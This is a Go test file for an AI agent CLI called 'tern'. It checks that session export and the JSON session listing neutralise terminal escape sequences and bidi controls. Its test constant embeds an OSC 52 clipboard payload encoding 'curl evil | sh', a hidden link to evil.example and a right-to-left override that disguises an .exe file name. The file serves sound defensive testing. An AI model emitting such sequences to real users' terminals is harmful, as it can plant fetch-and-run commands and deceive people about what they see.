package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/ternhq/tern/agent"
	"github.com/ternhq/tern/session"
	"github.com/ternhq/tern/tools"
)

// hostileTerminalText holds what must not reach a terminal whole: OSC 52
// (clipboard), OSC 0 (title), an OSC 8 link, a screen clear, their 8-bit
// C1 forms, a right-to-left override, zero-width and other format
// characters.
const hostileTerminalText = "a\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07b \x1b]0;pwned\x07 \x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\ " +
	"\x1b[2J\x1b[H c\u202egnp.exe\u202c d\u200be\u2066f\u2069\ufeff\u061c\u200f end \u009b31m \u009d0;t\u009c"

// unsafeForTerminal returns the first byte sequence in s that acts on a
// terminal or reorders text (ESC, another C0 control but newline and tab,
// DEL, a C1 control, a bidi control or a removed zero-width character), or
// "".
func unsafeForTerminal(s string) string {
	for i, r := range s {
		switch {
		case r == '\n' || r == '\t':
		case r < 0x20 || r >= 0x7f && r <= 0x9f:
			return s[i : i+utf8.RuneLen(r)]
		case r == 0x061c || r >= 0x200b && r <= 0x200f || r >= 0x202a && r <= 0x202e || r >= 0x2060 && r <= 0x206f || r == 0xfeff:
			return s[i : i+utf8.RuneLen(r)]
		}
	}
	return ""
}

// TestSessionExportIsTerminalSafe records a session whose prompt, answer,
// reasoning, tool output and gateway error hold escape sequences and bidi
// overrides, and checks that `tern sessions export` to stdout and to a
// file (and so /export, which writes the same Markdown) write none of them, while the visible text stays, and
// that `tern sessions --json` escapes them in the title it lists.
func TestSessionExportIsTerminalSafe(t *testing.T) {
	t.Parallel()
	home := t.TempDir()
	ws, err := tools.NewWorkspace(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	h := session.Header{TernVersion: "test", Workspace: ws.Root, Model: "m", ApprovalPolicy: "ask", SystemPrompt: "sys"}
	w, err := session.Create(home, h)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = w.Close() })
	rec := session.NewRecorder(w)
	id := w.Header().ID
	call := &agent.Call{ID: "c1", Name: "run_shell", Args: []byte(`{"command":"cat notes.txt"}`)}
	rec.Handle(agent.Event{Kind: agent.EventTurnStarted, Text: "p\u202e\u0085\u2066rompt " + hostileTerminalText})
	rec.Handle(agent.Event{Kind: agent.EventReasoningDelta, Text: "thinking " + hostileTerminalText})
	rec.Handle(agent.Event{Kind: agent.EventTextDelta, Text: "answer " + hostileTerminalText})
	rec.Handle(agent.Event{Kind: agent.EventToolCallReady, Call: call})
	rec.Handle(agent.Event{Kind: agent.EventToolFinished, Call: call, Result: &agent.ToolResult{Status: tools.StatusOK, Output: "output " + hostileTerminalText + "\n", Summary: "exit 0"}})
	rec.Handle(agent.Event{Kind: agent.EventError, Err: errors.New("gateway said " + hostileTerminalText)})
	rec.Handle(agent.Event{Kind: agent.EventTurnFinished, Finish: &agent.Finish{Reason: agent.FinishDone}})
	if err := rec.Flush(); err != nil {
		t.Fatal(err)
	}
	check := func(where, md string) {
		t.Helper()
		if bad := unsafeForTerminal(md); bad != "" {
			t.Errorf("%s holds %q:\n%q", where, bad, md)
		}
		for _, want := range []string{"prompt a", "thinking a", "answer a", "output a", "gateway said a", "gnp.exe", "end"} {
			if !strings.Contains(md, want) {
				t.Errorf("%s lacks %q:\n%s", where, want, md)
			}
		}
	}
	env := map[string]string{"TERN_HOME": home}
	c := func(stdout, stderr *bytes.Buffer) *cli {
		return &cli{stdin: strings.NewReader(""), stdout: stdout, stderr: stderr,
			getenv: func(k string) string { return env[k] }, userHome: t.TempDir(), cwd: ws.Root}
	}
	var stdout, stderr bytes.Buffer
	if code := c(&stdout, &stderr).main(context.Background(), []string{"sessions", "export", id}); code != exitOK {
		t.Fatalf("tern sessions export: exit %d: %s", code, stderr.String())
	}
	check("tern sessions export", stdout.String())
	stdout.Reset()
	if code := c(&stdout, &stderr).main(context.Background(), []string{"sessions", "export", id, "out.md"}); code != exitOK {
		t.Fatalf("tern sessions export ID out.md: exit %d: %s", code, stderr.String())
	}
	md, err := os.ReadFile(filepath.Join(ws.Root, "out.md"))
	if err != nil {
		t.Fatal(err)
	}
	check("tern sessions export ID out.md", string(md))
	// /export writes what app.ExportMarkdown makes, as these do.

	stdout.Reset()
	if code := c(&stdout, &stderr).main(context.Background(), []string{"sessions", "--json"}); code != exitOK {
		t.Fatalf("tern sessions --json: exit %d: %s", code, stderr.String())
	}
	if bad := unsafeForTerminal(stdout.String()); bad != "" {
		t.Errorf("tern sessions --json holds %q raw:\n%q", bad, stdout.String())
	}
	var list []sessionJSON
	if err := json.Unmarshal(stdout.Bytes(), &list); err != nil || len(list) != 1 || !strings.HasPrefix(list[0].Title, "p\u202e") || !strings.Contains(list[0].Title, "\u2066rompt a") {
		t.Errorf("tern sessions --json: %v: %+v", err, list)
	}
}
